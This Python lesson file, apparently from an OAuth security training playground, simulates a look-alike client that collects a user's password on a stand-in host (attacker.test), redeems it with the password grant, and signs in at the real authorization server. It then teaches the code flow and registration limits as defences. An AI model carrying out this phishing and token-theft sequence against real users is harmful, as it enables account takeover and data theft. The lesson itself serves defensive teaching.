"""A look-alike app collects Alice's password and spends it at the real AS."""

from playground import Lesson

LOOK_ALIKE = "https://attacker.test/photoprintz"
LOOK_ALIKE_CLIENT = ("photo-printz", "photoprintz-secret")
REFUSAL = "The client is not authorized to use 'grant_type=password'"
ALICE = "u-1001"

lesson = Lesson(
    "Password phishing by a look-alike app",
    level="intermediate",
    kind="attack",
    weakness="as.password_grant_any_client",
    summary=(
        "PhotoPrintz looks like PhotoPrint, one letter different, and is a "
        "real registered client of Mallory's. It shows its own sign-in form; "
        "Alice types her password; PhotoPrintz sends it to the real "
        "authorization server with the password grant and reads her photos. "
        "The server can refuse the grant, but it cannot un-steal the password: "
        "the defended run shows Mallory simply signing in as Alice at the "
        "real sign-in page."
    ),
    defence="""
- **Never type your password into a client.** RFC 9700 2.4: the resource
  owner password credentials grant **MUST NOT** be used; it results "in
  training users to enter their credentials in places other than the
  authorization server", and any app, or a look-alike, can ask (RFC 6749
  10.7: the grant "maintains the password anti-pattern this protocol seeks
  to avoid"). The password
  is gone the moment it is typed, whatever the authorization server does
  next.
- **Use the authorization code flow** (RFC 6749 4.1, with PKCE, RFC 9700
  2.1.1): the password goes only to the authorization server's own page, at
  its own address, where the browser (and a password manager) can tell it
  apart from a look-alike.
- **If the grant must exist, bind it to the clients registered for it.** An
  authorization server only lets a client use the grant types in its
  registration (RFC 7591 2 `grant_types`) and answers anyone else
  `400 unauthorized_client` (RFC 6749 5.2), as the defended run shows. That
  limits the damage to what the password alone can do.
- **Limit what a phished password is worth:** a second factor at the
  authorization server's sign-in page, which the password grant bypasses
  entirely; better, phishing-resistant credentials (passkeys, WebAuthn),
  which the browser releases only to the authorization server's own origin,
  so there is no password to type into a look-alike at all. Without them,
  refusing the grant does not save Alice: the defended run shows Mallory
  typing the stolen password into the real sign-in page.
""",
)


@lesson.step("Alice finds PhotoPrintz")
def find_look_alike(run):
    """
    Mallory registered a client called **PhotoPrintz** at the real
    authorization server: open registration, same logo, one letter more.
    Look at its registration in the checks: a confidential client with its
    own secret, registered for the **code** grant only.

    Alice follows an ad for free prints to Mallory's site. Read the page:
    *"Just sign in with your photo account below."* It is not the
    authorization server's page; it is PhotoPrintz's own.
    """
    registration = run.store.client("photo-printz")
    run.browser.open(LOOK_ALIKE)
    run.check(
        "PhotoPrintz is a registered client of the real authorization server",
        registration is not None and registration.client_name == "PhotoPrintz",
    )
    run.check(
        "registered for the code grant only, not the password grant",
        registration is not None
        and registration.grant_types == ("authorization_code",),
    )
    run.check(
        "the page Alice sees is served by attacker.test",
        run.browser.status == 200
        and "sign in with your photo account" in run.browser.page.text,
    )


@lesson.step("Alice types her password into PhotoPrintz's form")
def type_password(run):
    """
    Alice types `alice` / `wonderland` into PhotoPrintz's form, and her
    browser posts it to **PhotoPrintz's** server. Read the request body:
    `username=alice&password=wonderland`, sent to `attacker.test`.

    This is the **first harm**, and nothing later undoes it: Mallory has
    Alice's password. She can type it into the authorization server's own
    sign-in page, or try it at every other site Alice uses. No setting of
    the authorization server runs before this request.
    """
    run.browser.submit("sign-in", username="alice", password="wonderland")
    run.check(
        "Mallory's site received Alice's password",
        run.attacker.loot("password") == ["wonderland"],
    )


@lesson.step("PhotoPrintz tries the password grant at the real server")
def password_grant(run):
    """
    PhotoPrintz's server sends `POST /token` with
    `grant_type=password&username=alice&password=wonderland` and its own
    client credentials in `Authorization: Basic` (RFC 6749 4.3.2). The
    authorization server sees a correctly authenticated, registered client
    and a correct password.

    **Weakness on** (`as.password_grant_any_client`): it checks the client's
    secret and Alice's password, but not whether this client may use the
    password grant. **200**: an access token issued to `photo-printz` for
    Alice, and a refresh token to renew it for up to 90 days. No consent
    screen: the server never met Alice.

    **Defended**: **400** with `"error": "unauthorized_client"` and
    `"error_description": "The client is not authorized to use
    'grant_type=password'"` (RFC 6749 5.2). The check that stopped it is
    the client's registration: `grant_types` says code only.
    """
    password = run.attacker.loot("password")[-1]
    response = run.attacker.token_request(
        {
            "grant_type": "password",
            "username": "alice",
            "password": password,
            "scope": "basic photos.read",
        },
        auth=LOOK_ALIKE_CLIENT,
    )
    body = response.json()
    run.check(
        "the request body carries Alice's password, sent by PhotoPrintz",
        run.last_request.form.get("password") == "wonderland",
    )
    if run.weakness_on:
        claims = run.decode(body.get("access_token", "")).claims
        run.check("the token endpoint answers 200", response.status_code == 200)
        run.check(
            "an access token for Alice (sub u-1001), issued to photo-printz",
            claims.get("sub") == "u-1001" and claims.get("client_id") == "photo-printz",
        )
        run.check("and a refresh token", "refresh_token" in body)
    else:
        run.check("the token endpoint answers 400", response.status_code == 400)
        run.check(
            'the error is "unauthorized_client"',
            body.get("error") == "unauthorized_client",
        )
        run.check(
            f'error_description: "{REFUSAL}"', body.get("error_description") == REFUSAL
        )
        run.check(
            "no token was issued to photo-printz",
            not [
                event
                for event in run.events_named("access_token.issued")
                if event.client_id == "photo-printz"
            ],
        )


@lesson.step("PhotoPrintz reads Alice's photos")
def read_photos(run):
    """
    **Weakness on**: PhotoPrintz calls the photos API with its new token.
    **200**, Alice's photos. To the photos API and the authorization server
    this is a registered client acting for Alice with her password: nothing
    looks wrong.

    **Defended**: PhotoPrintz holds no token, so it has nothing to send to
    the photos API. The authorization server held the line; the password
    from step 2, though, is still in Mallory's hands.
    """
    token = run.attacker.stolen.get("access_token")
    if run.weakness_on:
        response = run.attacker.call_api("/api/photos", token or "")
        titles = [photo["title"] for photo in response.json().get("photos", [])]
        run.check("the photos API answers 200", response.status_code == 200)
        run.check(
            "with Alice's photos", titles == ["Tea party", "Croquet lawn"], str(titles)
        )
    else:
        run.check("PhotoPrintz holds no access token", token is None)
    run.check(
        "either way, Mallory still has Alice's password",
        "wonderland" in run.attacker.loot("password"),
    )


@lesson.step("What Mallory can still do with the password")
def password_at_the_real_page(run):
    """
    The password grant refused or not, Mallory holds Alice's password. In
    **her own browser** she starts an ordinary authorization request for
    PhotoPrintz, with PKCE like any client, and types Alice's password into
    the real authorization server's sign-in page. The server cannot tell her
    from Alice: the password is all it asks. She approves her own app in
    Alice's name, redeems the code with PhotoPrintz's secret and verifier,
    and reads Alice's photos.

    In both runs: **200** at the token endpoint and at the photos API, and
    the events `user.authenticated` and `consent.granted` for `u-1001`,
    although Alice did nothing. This is why the defence against phishing is
    not a server setting but keeping passwords out of apps, and credentials
    that cannot be phished (the defence, below).
    """
    printz = run.oauth_client("photo-printz")
    mallory = run.attacker.browser
    mallory.open(printz.authorization_url("basic photos.read", pkce_method="S256"))
    mallory.sign_in("alice", run.attacker.loot("password")[-1])
    mallory.follow_redirect()
    mallory.approve()
    token = run.attacker.redeem_code(
        mallory.redirect_params.get("code", ""),
        client_id=printz.client_id,
        redirect_uri=printz.redirect_uri,
        client_secret=printz.client_secret,
        code_verifier=printz.pending.code_verifier,
    )
    photos = run.attacker.call_api(
        "/api/photos", run.attacker.stolen.get("access_token", "")
    )
    signed_in = run.events_named("user.authenticated")
    run.check(
        "the real sign-in page accepts Alice's password from Mallory's browser",
        bool(signed_in) and signed_in[-1].user == ALICE,
    )
    run.check(
        "Mallory approves PhotoPrintz in Alice's name; the token endpoint answers 200",
        token.status_code == 200,
    )
    run.check(
        "and the photos API gives her Alice's photos (200)",
        photos.status_code == 200 and photos.json().get("owner") == ALICE,
    )


@lesson.step("The real defence: type the password at the server only")
def code_flow(run):
    """
    The same sign-in done right: Alice signs in to the real **PhotoPrint**
    with the authorization code flow (lesson 02). PhotoPrint sends her
    browser to `https://auth.photos.test`; she types her password
    **there**, on the authorization server's page, at its address; PhotoPrint
    only ever receives a code.

    Search this step's requests for `wonderland`: it appears once, in
    `POST /login` to `auth.photos.test`. No request to PhotoPrint
    carries it. A look-alike that sends Alice to the real server gets a
    code for *its own* client, after a consent screen naming it, and never
    her password. That is why RFC 9700 2.4 says the password grant **MUST
    NOT** be used: the defence is the habit, not a server setting.
    """
    run.browser.open(f"{run.client_url}/login?scope=basic")
    run.browser.follow_redirect()
    run.browser.sign_in("alice", "wonderland")
    run.browser.follow_redirect()
    run.browser.approve()
    run.browser.follow_redirect()
    with_password = [
        exchange for exchange in run.exchanges if b"wonderland" in exchange.request.body
    ]
    run.check(
        "Alice is signed in to PhotoPrint", "Hello Alice" in run.browser.page.text
    )
    run.check(
        "her password went to the authorization server only (POST /login)",
        [(e.request.host, e.request.target) for e in with_password]
        == [("auth.photos.test", "/login")],
    )
    run.check(
        "Mallory's site got nothing new",
        run.attacker.loot("password") == ["wonderland"],
    )
